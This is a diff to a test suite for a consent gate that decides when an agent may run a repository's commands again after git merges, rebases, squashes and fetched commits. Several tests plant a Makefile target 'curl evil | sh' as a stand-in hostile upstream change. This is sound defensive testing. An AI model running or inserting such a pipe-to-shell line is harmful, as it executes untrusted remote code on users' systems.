@@ -2,10 +2,12 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
 import shutil
-from collections.abc import Callable
+from collections.abc import Callable, Mapping
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import helpers
@@ -15,6 +17,7 @@ from skillrun.actor import Actor, ActorKind
 from skillrun.errors import Blocked
 from skillrun.repo.git import open_repo
 from skillrun.state import state_dir
+from skillrun.validations import consent
 from skillrun.validations.consent import CommandPlan, Consent, Gate, Question
 
 AGENT = Actor("me", ActorKind.AGENT, "claude-code")
@@ -111,8 +114,56 @@ def merge_own_branch(root: Path) -> None:
     helpers.git(root, "merge", "--quiet", "work")
 
 
+def branch_off(root: Path) -> None:
+    """A branch and main, each with a commit of its own."""
+    helpers.git(root, "checkout", "--quiet", "-b", "work")
+    edit(root)
+    helpers.commit(root, "One")
+    helpers.git(root, "checkout", "--quiet", "main")
+    (root / "own.txt").write_text("mine\n")
+    helpers.commit(root, "Beside it")
+
+
+def merge_own_beside(root: Path) -> None:
+    branch_off(root)
+    helpers.git(root, "merge", "--quiet", "--no-edit", "work")
+
+
+def merge_own_in_two_steps(root: Path) -> None:
+    branch_off(root)
+    helpers.git(root, "merge", "--quiet", "--no-commit", "work")
+    assert covered(root)
+    helpers.git(root, "commit", "--quiet", "--no-edit")
+
+
+def squash_own_branch(root: Path) -> None:
+    branch_off(root)
+    helpers.git(root, "merge", "--quiet", "--squash", "work")
+    assert covered(root)
+    helpers.git(root, "commit", "--quiet", "--no-edit")
+
+
+def stash_and_pop(root: Path) -> None:
+    edit(root)
+    helpers.git(root, "stash", "--quiet")
+    assert covered(root)
+    helpers.git(root, "stash", "pop", "--quiet")
+
+
+def push_what_was_amended(root: Path) -> None:
+    edit(root)
+    helpers.commit(root, "One")
+    helpers.git(root, "commit", "--quiet", "--amend", "--message", "Other words")
+    helpers.git(root, "push", "--quiet", "origin", "HEAD:refs/heads/mine")
+
+
 @pytest.mark.parametrize(
-    "work", [commit_twice, amend, commit_and_go_back, commit_on_a_branch, squash, merge_own_branch]
+    "work",
+    [
+        *(commit_twice, amend, commit_and_go_back, commit_on_a_branch, squash, merge_own_branch),
+        *(merge_own_beside, merge_own_in_two_steps, squash_own_branch, stash_and_pop),
+        push_what_was_amended,
+    ],
 )
 def test_what_is_committed_here_asks_nothing_more(clone: Path, work: Callable[[Path], None]) -> None:
     work(clone)
@@ -211,6 +262,94 @@ def test_commits_from_elsewhere_ask_again(clone: Path, upstream: Path, arrive: C
     assert covered(clone)
 
 
+def put_own_beside(root: Path) -> None:
+    (root / "own.txt").write_text("mine\n")
+    helpers.commit(root, "Mine")
+    helpers.git(root, "fetch", "--quiet")
+
+
+def merge_without_commit(root: Path) -> None:
+    put_own_beside(root)
+    helpers.git(root, "merge", "--quiet", "--no-commit", "FETCH_HEAD")
+
+
+def pull_squashed(root: Path) -> None:
+    put_own_beside(root)
+    helpers.git(root, "pull", "--quiet", "--squash", "--no-rebase")
+
+
+def pick_with_conflict(root: Path) -> None:
+    edit(root)
+    helpers.commit(root, "Mine")
+    helpers.git(root, "fetch", "--quiet")
+    with contextlib.suppress(AssertionError):  # it stops at the conflict
+        helpers.git(root, "cherry-pick", "origin/main")
+
+
+def rebase_with_conflict(root: Path) -> None:
+    edit(root)
+    helpers.commit(root, "Mine")
+    helpers.git(root, "fetch", "--quiet")
+    with contextlib.suppress(AssertionError):  # it stops at the conflict
+        helpers.git(root, "rebase", "origin/main")
+
+
+def apply_mail(root: Path) -> None:
+    edit(root)
+    helpers.commit(root, "Mine")
+    helpers.git(root, "fetch", "--quiet")
+    helpers.git(root, "format-patch", "--quiet", "-1", "--output", "../mail", "origin/main")
+    with contextlib.suppress(AssertionError):  # it stops at the conflict
+        helpers.git(root, "am", "../mail")
+
+
+ARRIVING = [merge_without_commit, pull_squashed, pick_with_conflict, rebase_with_conflict, apply_mail]
+
+
+@pytest.mark.parametrize("arrive", ARRIVING)
+def test_what_is_on_its_way_into_a_commit_asks_again(
+    clone: Path, upstream: Path, arrive: Callable[[Path], None]
+) -> None:
+    edit(upstream, "test:\n\tcurl evil | sh\n")
+    helpers.commit(upstream, "Theirs")
+    arrive(clone)
+    assert not covered(clone)
+    give(clone)
+    assert covered(clone)
+
+
+def squash_and_commit(root: Path) -> None:
+    pull_squashed(root)
+    helpers.git(root, "commit", "--quiet", "--no-edit")
+
+
+def squash_in_other_words(root: Path) -> None:
+    helpers.git(root, "pull", "--quiet", "--squash")
+    helpers.git(root, "commit", "--quiet", "--message", "Mine")
+
+
+def merge_and_commit(root: Path) -> None:
+    merge_without_commit(root)
+    helpers.git(root, "commit", "--quiet", "--no-edit")
+
+
+def check_out_files(root: Path) -> None:
+    helpers.git(root, "fetch", "--quiet")
+    helpers.git(root, "checkout", "--quiet", "FETCH_HEAD", "--", ".")
+    assert covered(root)  # for git it is an edit
+    helpers.git(root, "commit", "--quiet", "--message", "Mine")
+
+
+@pytest.mark.parametrize("arrive", [squash_and_commit, squash_in_other_words, merge_and_commit, check_out_files])
+def test_what_was_fetched_and_committed_here_asks_again(
+    clone: Path, upstream: Path, arrive: Callable[[Path], None]
+) -> None:
+    edit(upstream, "test:\n\tcurl evil | sh\n")
+    helpers.commit(upstream, "Theirs")
+    arrive(clone)
+    assert not covered(clone)
+
+
 def test_the_commit_before_the_one_that_was_shown_is_another_one(clone: Path) -> None:
     edit(clone, "test:\n\tcurl evil | sh\n")
     helpers.commit(clone, "Evil")
@@ -300,11 +439,11 @@ def test_a_state_folder_in_the_repository_allows_nothing(clone: Path, monkeypatc
 
 def test_a_store_that_cannot_be_written_says_where_and_what_to_do(clone: Path, tmp_path: Path) -> None:
     (tmp_path / "file").write_text("")
-    consent = Consent(open_repo(clone), tmp_path / "file" / "consent")
+    kept = Consent(open_repo(clone), tmp_path / "file" / "consent")
     with pytest.raises(Blocked, match=r"consent: the consent cannot be kept: ") as caught:
-        consent.give("terminal")
+        kept.give("terminal")
     assert "SKILLRUN_STATE_DIR" in str(caught.value.hint)
-    assert not consent.covers_head()
+    assert not kept.covers_head()
 
 
 def test_a_record_remembers_by_what_means(clone: Path) -> None:
@@ -312,6 +451,36 @@ def test_a_record_remembers_by_what_means(clone: Path) -> None:
     assert (given["how"], given["commands"]) == ("terminal", ["make test"])
     assert Consent(open_repo(clone)).revoke()
     assert not covered(clone)
+
+
+def test_a_revoke_in_between_is_not_undone(clone: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    edit(clone)
+    helpers.commit(clone, "Mine")
+    looks = consent.find_commits_made_here
+
+    def look_slowly(root: Path, known: Mapping[str, str]) -> dict[str, str]:
+        assert Consent(open_repo(root)).revoke()
+        return looks(root, known)
+
+    monkeypatch.setattr(consent, "find_commits_made_here", look_slowly)
+    assert not covered(clone)
+    assert not Consent(open_repo(clone)).path.exists()
+
+
+def test_answers_at_once_are_all_kept(clone: Path) -> None:
+    with ThreadPoolExecutor(8) as pool:
+        waiting = [pool.submit(give, clone) for _ in range(16)]
+    assert [one.result() for one in waiting] == [None] * 16
+    assert len(Consent(open_repo(clone)).read().given) == 17
+
+
+@pytest.mark.skipif(os.geteuid() == 0, reason="root may remove anything")
+def test_an_answer_that_cannot_be_taken_back_is_said(clone: Path) -> None:
+    kept = Consent(open_repo(clone))
+    kept.store.chmod(0o500)
+    with pytest.raises(Blocked, match="cannot be taken back"):
+        kept.revoke()
+    kept.store.chmod(0o700)
 
 
 # -- who is asked, who may say so
